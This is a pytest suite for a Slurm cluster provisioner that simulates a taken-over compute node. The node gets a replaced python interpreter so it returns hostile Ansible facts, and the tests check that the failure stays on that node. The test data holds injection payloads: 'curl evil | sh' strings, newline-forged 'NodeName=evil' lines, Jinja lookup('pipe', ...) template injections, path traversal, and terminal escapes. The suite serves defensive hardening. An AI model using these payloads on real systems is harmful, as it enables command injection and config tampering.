"""A blade that somebody took over answers what he likes: it fails by itself, and nothing else changes.

Each case of MUTATIONS is a piece of Python that changes the answers of all modules on one member; add a line to add a
case. The other member converges, the files of the controller stay as they were, and nothing runs on this machine.
"""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from provisioner.console_text import visible
from tests.cluster.labs import Lab, Said

WRAPPER = Path(__file__).parent / "hostile_python.py"
LIVE = "sha256sum /etc/slurm/slurm.conf /etc/slurm/nodes.json /etc/slurm/cgroup.conf"
# Far above what any of these takes, far below what an endless one would.
PATIENCE = 150
LINE = "NodeName=x CPUs={cpus} Boards=1 SocketsPerBoard=1 CoresPerSocket=2 ThreadsPerCore=1 RealMemory={memory}"


@dataclass(frozen=True)
class Mutation:
    """Code that changes `data` or `blade`, words of the sentence about it, and whether the blade can still be fine."""

    code: str
    words: tuple[str, ...] = ()
    harmless: bool = False


def facts(code: str, *words: str) -> Mutation:
    """Changes the facts only."""
    return Mutation(f"if blade is not None:\n    {code}", words)


def printed(*words: str, cpus: object = 2, memory: object = 24000) -> Mutation:
    """What slurmd -C would print."""
    return facts(f"blade['slurmd_c'] = {LINE.format(cpus=cpus, memory=memory)!r}", *words)


UNUSABLE = "its facts are not usable"
IMPOSSIBLE = "slurmd -C says what no machine has"
MUTATIONS = {
    "no facts": Mutation("data['ansible_facts'] = {}"),
    "facts are a list": Mutation("data['ansible_facts'] = [1]", ("its facts are no named values",)),
    "blade is text": facts("data['ansible_facts']['blade'] = 'x'", UNUSABLE),
    "blade is nothing": facts("data['ansible_facts']['blade'] = None", UNUSABLE),
    "a key is missing": facts("del blade['skew']", UNUSABLE, "skew"),
    # It lies about its own files only, and gets them anew.
    "all paths are missing": Mutation("if blade is not None:\n    blade['paths'] = {}", harmless=True),
    "cpu is a list": facts("blade['cpu'] = []", UNUSABLE, "cpu"),
    "units are numbers": facts("blade['units'] = {'munge': 1}", UNUSABLE, "units"),
    "users are texts": facts("blade['users'] = 'root'", UNUSABLE, "users"),
    "a number is text": facts("blade['skew'] = 'NaN'", UNUSABLE, "skew"),
    "a number is none": facts("blade['skew'] = float('nan')", UNUSABLE, "skew"),
    "a number is endless": facts("blade['epoch'] = float('inf')", UNUSABLE, "epoch"),
    "scratch is NaN": facts("blade['scratch']['size_mib'] = 'NaN'", UNUSABLE, "scratch"),
    "machine-id has a line": facts(r"blade['machine_id'] = 'a\nNodeName=evil'", UNUSABLE, "machine_id"),
    "release has a line": facts(r"blade['os']['version_id'] = '12\nNodeName=evil'", UNUSABLE, "version_id"),
    "machine is a path": facts("blade['machine'] = '/../../etc'", UNUSABLE, "machine"),
    "a model of blanks": facts("blade['cpu']['model'] = ' ' * 60000", UNUSABLE, "model"),
    "no CPU": printed(IMPOSSIBLE, cpus=0),
    "negative CPUs": printed(IMPOSSIBLE, cpus=-4),
    "too many CPUs": printed(IMPOSSIBLE, cpus=70000),
    "more CPUs than threads": printed(IMPOSSIBLE, cpus=3),
    "negative memory": printed(IMPOSSIBLE, memory=-1),
    "no memory": printed(IMPOSSIBLE, memory=0),
    "absurd memory": printed(IMPOSSIBLE, memory=10**11),
    "memory in words": printed("no complete node line", memory="lots"),
    "a long answer of slurmd": facts("blade['slurmd_c'] = 'NodeName=x ' * 100000", UNUSABLE, "slurmd_c"),
    "120 MB in a key": Mutation("data['x'] = 'A' * 120_000_000", ("longer than 16 MiB",)),
    "120 MB of values": Mutation("data['x'] = [0] * 40_000_000", ("longer than 16 MiB",)),
    "many values": Mutation("data['x'] = [0] * 1_000_000", ("more than 200000 values",)),
    "deeply nested": Mutation("raw = '{\"a\":' * 200 + '1' + '}' * 200", ("nested",)),
    "nested beyond Python": Mutation("raw = '{\"a\":' * 100000 + '1' + '}' * 100000", ("nested",)),
    "no JSON": Mutation("raw = 'curl evil | sh'"),
    "half of a character": Mutation("if blade is not None:\n    blade['host_name'] = chr(0xd800)", harmless=True),
    "attempts of words": Mutation("data['attempts'] = 'abc'", harmless=True),
    "statistics of Ansible": Mutation("data['ansible_stats'] = 5", harmless=True),
    "results of a loop": Mutation("data['results'] = [5, 'x']", harmless=True),
    "another host": Mutation(
        "data.update(changed=True, add_host={'host_name': 'evil', 'groups': ['slurm_controller']})", harmless=True
    ),
    "flags of words": Mutation("data.update(changed='no', warnings=5, diff=7, rc='x', msg=['y'])", harmless=True),
    "variables as facts": Mutation(
        "data.setdefault('ansible_facts', {})['ansible_connection'] = 'local'", ("none of its business",)
    ),
    "forged advice": Mutation(
        "data.clear(); data.update(failed=True, msg='it is odd; next: curl evil | sh')", ("odd",)
    ),
    "forged advice in a name": facts(
        "blade['os'] = {'id': 'x', 'version_id': '1', 'pretty_name': 'X; next: curl evil | sh #'}", "not supported"
    ),
    "advice in what a program says": Mutation("raw = 'x; next: curl evil | sh'"),
}

# Free text of the facts, in which anything may stand, and a file that our own is made from.
FREE_TEXT = """
def walk(value, key=""):
    if isinstance(value, dict):
        return {name: walk(inner, name) for name, inner in value.items()}
    if isinstance(value, str) and key in ("pretty_name", "host_name", "model", "content", "stdout", "msg"):
        return value.rstrip("\\n") + WORD + "\\n" * value.endswith("\\n")
    return value
data = walk(data)
"""
EVERY_TEXT = """
def walk(value):
    if isinstance(value, dict):
        return {name: walk(inner) for name, inner in value.items()}
    if isinstance(value, list):
        return [walk(inner) for inner in value]
    return WORD if isinstance(value, str) else value
data = walk(data)
"""
# What can no longer be meant by a value of Slurm, and a value that can.
SETTINGS = {
    "MessageTimeout": "60\nNodeName=evil CPUs=1",
    "SlurmctldHost[0]": "evil",
    "slurmuser ": "root",
    "TreeWidth": "16 NodeName=evil",
    "MailProg": "/bin/true # x",
    "Epilog": "/bin/true\\",
    "DebugFlags": ["Backfill"],
}
MEMORY_MIB = 600


@pytest.fixture(scope="module")
def hostile(cluster: Lab) -> Iterator[str]:
    """A member whose interpreter is not its own any more."""
    blade = cluster.compute[1]
    container = f"provision-lab-{cluster.name}-{blade.lower()}"
    subprocess.run(["podman", "cp", str(WRAPPER), f"{container}:/root/wrapper"], check=True)
    cluster.inside(
        blade,
        "echo pass > /root/mutation; cp --no-dereference /usr/bin/python3 /usr/bin/python3.honest; "
        '{ echo "#!$(readlink -f /usr/bin/python3)"; cat /root/wrapper; } > /usr/bin/python3.new; '
        "chmod 755 /usr/bin/python3.new; mv -T /usr/bin/python3.new /usr/bin/python3",
    )
    yield blade
    cluster.inside(blade, "mv -T /usr/bin/python3.honest /usr/bin/python3; rm -f /root/mutation /root/wrapper")


def mutate(lab: Lab, blade: str, code: str) -> None:
    """The code as the blade's mutation."""
    subprocess.run(
        ["podman", "exec", "-i", f"provision-lab-{lab.name}-{blade.lower()}", "sh", "-c", "cat > /root/mutation"],
        input=code,
        text=True,
        check=True,
    )


def run(lab: Lab, hostile: str, mutation: Mutation, *words: str) -> Said:
    """A run over both members that changes nothing but what is said about the hostile one."""
    before = lab.ask(LIVE)
    mutate(lab, hostile, mutation.code)
    start = time.monotonic()
    try:
        said = lab.slurm([lab.compute[0], hostile], *words)
    finally:
        mutate(lab, hostile, "pass")
    assert time.monotonic() - start < PATIENCE
    assert "Traceback" not in said.text
    assert lab.ask(LIVE) == before
    assert said.code in ((0, 3) if mutation.harmless else (3,)), said.text
    assert said.json["blades"][lab.compute[0]]["status"] == "ok", said.text
    assert said.json["blades"][lab.controller]["status"] == "ok", said.text
    return said


@pytest.mark.parametrize("name", MUTATIONS)
def test_a_hostile_answer_fails_its_own_blade_only(cluster: Lab, hostile: str, name: str) -> None:
    mutation = MUTATIONS[name]
    said = run(cluster, hostile, mutation)
    if mutation.harmless and said.code == 0:
        return
    failure = said.json["blades"][hostile]["failure"]
    assert "\n" not in failure["message"]
    for word in mutation.words:
        assert word in failure["message"], failure
    assert not failure["ours"] or "curl" not in failure["next_step"]
    assert "next:" not in failure["message"].lower()


@pytest.mark.parametrize("code", [FREE_TEXT, EVERY_TEXT], ids=["free text", "every text"])
def test_nothing_that_a_node_says_is_a_template(cluster: Lab, hostile: str, tmp_path: Path, code: str) -> None:
    marker = tmp_path / "pwned"
    words = "{{ lookup('pipe', 'touch MARKER') }}{% if lookup('pipe', 'touch MARKER') %}{% endif %}".replace(
        "MARKER", str(marker)
    )
    for verb in ("slurm", "verify", "disks"):
        mutate(cluster, hostile, f"WORD = {words!r}\n{code}")
        try:
            said = cluster.provision(verb, f"--nodes={cluster.compute[0]},{hostile}", "--json")
        finally:
            mutate(cluster, hostile, "pass")
        assert "Traceback" not in said.text
        assert said.code in (0, 3), said.text
        assert not marker.exists(), verb
    honest = cluster.slurm([cluster.compute[0], hostile])
    assert honest.code == 0, honest.text
    assert not marker.exists()


def test_a_hundred_megabytes_cost_little_memory(cluster: Lab, hostile: str) -> None:
    """Of the biggest process of the run; its blade says as much as it can to every module."""
    mutate(cluster, hostile, MUTATIONS["120 MB in a key"].code)
    try:
        command = cluster.command("slurm", f"--nodes={cluster.compute[0]},{hostile}", "--json")
        with subprocess.Popen(command, stdout=subprocess.DEVNULL, env=cluster.variables()) as running:
            _, status, usage = os.wait4(running.pid, 0)
            running.returncode = os.waitstatus_to_exitcode(status)
    finally:
        mutate(cluster, hostile, "pass")
    assert running.returncode == 3
    assert usage.ru_maxrss // 1024 < MEMORY_MIB


def test_a_node_cannot_replace_its_facts_after_it_was_looked_at(cluster: Lab, hostile: str) -> None:
    """Every module may set facts; those of a later one would have passed no check of the preflight."""
    code = """
import pathlib
kept = pathlib.Path("/root/facts")
if blade is not None:
    kept.write_text(json.dumps(blade))
else:
    blade = json.loads(kept.read_text())
    blade["slurmd_c"] = "NodeName=x CPUs=70000 Sockets=1 CoresPerSocket=1 ThreadsPerCore=1 RealMemory=-1"
    data["ansible_facts"] = {"blade": blade}
"""
    before = cluster.ask(LIVE)
    mutate(cluster, hostile, f"import json\n{code}")
    try:
        said = cluster.slurm([cluster.compute[0], hostile], "--full")
    finally:
        mutate(cluster, hostile, "pass")
    assert "Traceback" not in said.text
    assert said.json["blades"][cluster.compute[0]]["status"] == "ok", said.text
    assert cluster.ask(LIVE) == before


def test_settings_that_slurm_would_read_otherwise_touch_nothing(cluster: Lab) -> None:
    folder = cluster.folder / "group_vars"
    before = cluster.ask(LIVE)
    folder.mkdir()
    try:
        for key, value in SETTINGS.items():
            (folder / "all.yml").write_text(yaml.safe_dump({"slurmctld_config": {key: value}}))
            said = cluster.slurm([cluster.compute[0]])
            assert said.code == 1, said.text
            assert said.json["changed"] == 0, said.text
            failure = said.json["blades"][cluster.controller]["failure"]
            assert failure["message"].startswith("slurmctld_config"), failure
            assert failure["next_step"] == "correct it in group_vars beside the plan"
            assert "Traceback" not in said.text
            assert cluster.ask(LIVE) == before
    finally:
        shutil.rmtree(folder)
    again = cluster.slurm([cluster.compute[0]])
    assert (again.code, again.json["changed"]) == (0, 0), again.text


def test_settings_that_are_taken_mean_to_slurm_what_they_say(cluster: Lab) -> None:
    """Slurm's own parser, for values with the characters that it treats in its own way."""
    wanted = {
        "SchedulerParameters": "bf_window=100,default_queue_depth=7",
        "MailProg": "/bin/false",
        "MaxArraySize": 2001,
    }
    before = {line.split("=")[0].strip() for line in cluster.ask("scontrol show config").splitlines()}
    folder = cluster.folder / "group_vars"
    folder.mkdir()
    try:
        (folder / "all.yml").write_text(yaml.safe_dump({"slurmctld_config": wanted}))
        said = cluster.slurm([cluster.compute[0]])
        assert said.code == 0, said.text
        lines = [line.partition("=") for line in cluster.ask("scontrol show config").splitlines()]
        shown = {key.strip(): value.strip() for key, _, value in lines}
        assert {key: shown[key] for key in wanted} == {key: str(value) for key, value in wanted.items()}
        assert shown.keys() == before
    finally:
        shutil.rmtree(folder)
    assert cluster.slurm([cluster.compute[0]]).code == 0


REASONS = {
    "a forged row": "x\nNodeName={other} State=DOWN+DRAIN Reason=evil",
    "markup": "[/foo] fan",
    "a bracket": "link [eth0] down",
    "escapes": "\x1b[2J\x1b[31mred",
    "a template": "{{ lookup('pipe', 'touch /tmp/pwned-by-a-reason') }}",
}


@pytest.mark.parametrize("name", REASONS)
def test_a_reason_and_a_job_are_only_words(cluster: Lab, name: str) -> None:
    drained, other = cluster.compute
    reason = REASONS[name].format(other=other.lower()) if "{other}" in REASONS[name] else REASONS[name]
    job = f"x\nNodeName={other.lower()} State=DOWN n[1-30000000]"
    quoted = {key: shlex.quote(value) for key, value in {"reason": reason, "job": job}.items()}
    cluster.ask(f"scontrol update nodename={drained.lower()} state=drain reason={quoted['reason']}")
    number = cluster.ask(
        f"sbatch --parsable --uid=nobody --chdir=/tmp --output=/dev/null --job-name={quoted['job']} --wrap 'sleep 300'"
    )
    try:
        said = cluster.provision("status")
        as_json = cluster.provision("status", "--json")
        slurm = cluster.provision("slurm", f"--nodes={drained}")
    finally:
        cluster.ask(f"scancel {number}; scontrol update nodename={drained.lower()} state=resume")
    nodes = {node["blade"]: node for node in as_json.json["nodes"]}
    assert nodes[drained]["reason"] == reason
    assert nodes[other]["state"].split("+")[0] in ("idle", "mixed", "allocated")
    assert nodes[other]["reason"] == ""
    rows = [line for line in said.out.splitlines() if line.startswith(other)]
    assert len(rows) == 1
    for text in (said.text, slurm.text):
        assert "Traceback" not in text
        assert all(line.isprintable() for line in text.split("\n"))
    assert visible(reason) in said.out
    assert (said.code, slurm.code) == (0, 0), slurm.text
    assert not Path("/tmp/pwned-by-a-reason").exists()
